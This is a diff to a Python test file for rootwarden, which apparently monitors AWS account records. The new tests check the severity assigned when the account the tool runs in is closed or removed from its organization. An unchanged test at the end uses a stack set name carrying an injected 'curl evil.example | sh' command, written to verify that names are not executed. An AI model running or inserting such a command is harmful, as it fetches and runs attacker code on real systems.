@@ -342,6 +342,30 @@ def test_the_account_and_the_target_are_those_named(
     assert (found.account_id, found.target, found.put_back) == (account, target, None)
 
 
+LEAVES_THE_HUB = [
+    # sample, changed fields, account of the record, severity
+    ("close_account", {"requestParameters": {"accountId": HUB}}, MANAGEMENT, "critical"),
+    ("close_account", WITHIN_THE_ACCOUNT, HUB, "critical"),
+    ("remove_account_from_organization", {"requestParameters": {"accountId": HUB}}, MANAGEMENT, "critical"),
+    ("close_account", {"requestParameters": {"accountId": HUB}} | REFUSED, MANAGEMENT, "medium"),
+    # AWS lets no member do so; its administrators may say it of any account.
+    ("close_account", {"requestParameters": {"accountId": HUB}}, MEMBER, "high"),
+    ("close_account", {"requestParameters": {"accountId": MEMBER}}, MANAGEMENT, "high"),
+]
+
+
+@pytest.mark.parametrize(("name", "changed", "account", "severity"), LEAVES_THE_HUB)
+def test_the_account_that_rootwarden_runs_in_is_no_account_like_others(
+    name: str, changed: dict[str, Any], account: str, severity: str
+) -> None:
+    found = WATCH.finding(record(sample(name, **changed) | {"account": account}))
+
+    assert found is not None
+    assert found.assessment.severity == severity
+    said = ("it is the account rootwarden runs in",) if severity == "critical" else ()
+    assert found.assessment.circumstances == said
+
+
 def test_a_name_cannot_become_a_command() -> None:
     name = "StackSet-rootwarden-x; curl evil.example | sh"
 
